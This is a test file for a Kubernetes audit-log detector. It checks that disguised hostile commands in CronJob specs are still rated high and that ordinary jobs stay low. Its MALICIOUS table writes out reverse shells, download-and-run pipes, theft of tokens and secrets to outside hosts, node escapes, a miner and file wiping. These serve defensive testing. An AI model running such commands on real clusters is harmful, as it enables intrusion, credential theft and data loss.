import assert from 'node:assert/strict';
import { test } from 'node:test';
import { SEVERITIES, type Severity } from '../model/finding.ts';
import type { JsonObject } from '../model/json.ts';
import { examine } from './examine.ts';
import { inflate } from './inflate.ts';
import { CARRIERS, DISGUISES, type Random, randomFrom } from './testing/disguises.ts';

/** Change it to draw other cases; a failure names its own. */
const SEED = Number(process.env.DISGUISE_SEED ?? 20261124);
const CASES = 1500;

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const MALICIOUS: Readonly<Record<string, string>> = {
  'a download into a shell': 'curl -s http://203.0.113.7/x | sh',
  'a download that is run': 'wget -q http://203.0.113.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a',
  'a shell on the network device': "bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'",
  'a shell behind netcat': 'nc 203.0.113.7 4444 -e /bin/sh',
  'a named pipe and netcat': 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 9001 > /tmp/f',
  'the token through netcat': `cat ${TOKEN} | nc 203.0.113.7 999`,
  'the token as a body': `curl -s -d @${TOKEN} https://paste.example.com/a`,
  'all secrets, sent away': 'kubectl get secrets -A -o yaml | curl -s -T - https://files.example.com/a',
  'the namespaces of the node': 'nsenter -t 1 -m -- bash',
  'a cron entry on the node': 'echo "* * * * * root id" > /host/etc/cron.d/a',
  'a chroot with a shell': 'chroot /host /bin/bash',
  'a miner': './a -o stratum+tcp://pool.example.com:3333 -u x -p x',
  'events that are deleted': 'kubectl delete events --all --all-namespaces',
  'a container past the API server': 'docker run --privileged -v /:/mnt alpine sleep 1000',
  'the release agent': 'echo /tmp/cmd > /tmp/c/release_agent',
  'files of the node that are wiped': 'rm -rf /host/etc /host/usr',
};

/** Jobs of the ordinary day; they mount nothing of the node. */
const BENIGN: Readonly<Record<string, string>> = {
  'a report': 'date; echo start; sleep 5',
  'a health check': 'curl -fsS https://shop.example.com/health',
  'a backup': 'pg_dump shop | gzip > /backup/shop.sql.gz',
  'jobs that are cleaned up': 'kubectl delete jobs --field-selector status.successful=1',
  'a restart': 'kubectl rollout restart deployment/web',
  'old files': 'find /data -mtime +7 -delete',
};
/** Disguises that an honest author writes as well. */
const HARMLESS: readonly string[] = [
  ...['quotes around every word', 'a shell', 'a shell with options', 'env', 'timeout', 'a function', 'a condition'],
  ...['a loop', 'a loop without an end', 'a case', 'a subshell', 'a group behind a test', 'between ordinary commands'],
  ...[
    'a here-document',
    'a file for a shell',
    'a file that is run',
    'a variable in a shell',
    'a trap',
    'xargs',
    'python',
  ],
  ...['python with a list', 'a default value', 'two variables', 'positional parameters', 'flock', 'nohup'],
];

const event = (spec: JsonObject): string =>
  JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Request',
    auditID: '00000000-0000-4000-8000-000000000001',
    stage: 'ResponseComplete',
    requestURI: '/apis/batch/v1/namespaces/shop/cronjobs',
    verb: 'create',
    user: { username: 'ana@example.com', groups: ['system:authenticated'] },
    sourceIPs: ['192.0.2.10'],
    userAgent: 'kubectl/v1.36.0',
    objectRef: { resource: 'cronjobs', namespace: 'shop', name: 'report', apiGroup: 'batch', apiVersion: 'v1' },
    responseStatus: { metadata: {}, code: 201 },
    requestObject: {
      apiVersion: 'batch/v1',
      kind: 'CronJob',
      metadata: { name: 'report', namespace: 'shop' },
      spec: { schedule: '30 3 * * *', jobTemplate: { spec: { template: { spec } } } },
    },
    requestReceivedTimestamp: '2026-11-24T10:00:00.000000Z',
    stageTimestamp: '2026-11-24T10:00:00.100000Z',
  });

const judged = (spec: JsonObject): { readonly rank: number; readonly says: string } => {
  const [finding] = examine(event(spec), { inflate }).findings;
  assert.ok(finding);
  return {
    rank: SEVERITIES.indexOf(finding.severity),
    says: `${finding.severity}: ${finding.indicators.map(({ id }) => id).join(', ')}`,
  };
};
const HIGHER_IS_MORE = SEVERITIES.indexOf('critical') > SEVERITIES.indexOf('info');
const isBelow = (rank: number, least: number): boolean => (HIGHER_IS_MORE ? rank < least : rank > least);
const rankOf = (severity: Severity): number => SEVERITIES.indexOf(severity);

const plain = (text: string): JsonObject => carrierOf('command of the container')(text);
const carrierOf = (name: string) => {
  const carrier = CARRIERS[name];
  assert.ok(carrier, name);
  return carrier;
};
const disguised = (text: string, name: string): string | null => {
  const disguise = DISGUISES[name];
  assert.ok(disguise, name);
  return disguise(text);
};
const drawn = <T>(list: readonly T[], random: Random): T => {
  const one = list[Math.floor(random() * list.length)];
  assert.ok(one !== undefined);
  return one;
};

const fall = (name: string, text: string, spec: JsonObject, least: number): string | null => {
  const { rank, says } = judged(spec);
  return isBelow(rank, least) ? `${name}\n  ${says}\n  ${text}` : null;
};

test('there are enough disguises, and each is reached', () => {
  assert.ok(Object.keys(DISGUISES).length >= 40, `${Object.keys(DISGUISES).length}`);
  for (const [name, disguise] of Object.entries(DISGUISES)) {
    assert.ok(
      Object.values(MALICIOUS).some((text) => disguise(text) !== null && disguise(text) !== text),
      name,
    );
  }
});

for (const [act, text] of Object.entries(MALICIOUS)) {
  test(`${act} is high, and no disguise or carrier alone lowers it`, () => {
    const least = judged(plain(text)).rank;
    assert.ok(!isBelow(least, rankOf('high')), judged(plain(text)).says);
    const falls = Object.entries(DISGUISES).flatMap(([name, disguise]) => {
      const hidden = disguise(text);
      const fell = hidden === null ? null : fall(name, hidden, plain(hidden), least);
      return fell === null ? [] : [fell];
    });
    for (const [name, carrier] of Object.entries(CARRIERS)) {
      const fell = fall(name, text, carrier(text), least);
      if (fell !== null) falls.push(fell);
    }
    assert.deepEqual(falls, []);
  });
}

test(`no disguise of up to three layers lowers the severity, seed ${SEED}`, () => {
  const random = randomFrom(SEED);
  const falls: string[] = [];
  let applied = 0;
  for (let index = 0; index < CASES; index += 1) {
    const [act, text] = drawn(Object.entries(MALICIOUS), random);
    const names: string[] = [];
    let hidden = text;
    for (let layer = 0; layer < 1 + Math.floor(random() * 3); layer += 1) {
      const name = drawn(Object.keys(DISGUISES), random);
      const next = disguised(hidden, name);
      if (next === null || next.length > 20_000) continue;
      hidden = next;
      names.push(name);
    }
    applied += names.length;
    const [carried, carrier] = drawn(Object.entries(CARRIERS), random);
    const fell = fall([act, ...names, carried].join(' < '), hidden, carrier(hidden), judged(plain(text)).rank);
    if (fell !== null) falls.push(fell);
  }
  assert.ok(applied > CASES);
  assert.deepEqual(falls.slice(0, 40), [], `${falls.length} of ${CASES} cases fell`);
});

test(`harmless variations of ordinary jobs stay below medium, seed ${SEED}`, () => {
  const random = randomFrom(SEED);
  for (let index = 0; index < 400; index += 1) {
    const [job, text] = drawn(Object.entries(BENIGN), random);
    const name = drawn(HARMLESS, random);
    const varied = disguised(text, name);
    if (varied === null) continue;
    const spec: JsonObject = {
      containers: [{ name: 'main', image: 'registry.example.com/shop/report:1.4.2', command: ['sh', '-c', varied] }],
    };
    const { rank, says } = judged(spec);
    assert.ok(isBelow(rank, rankOf('medium')), `${job} < ${name}\n  ${says}\n  ${varied}`);
  }
});
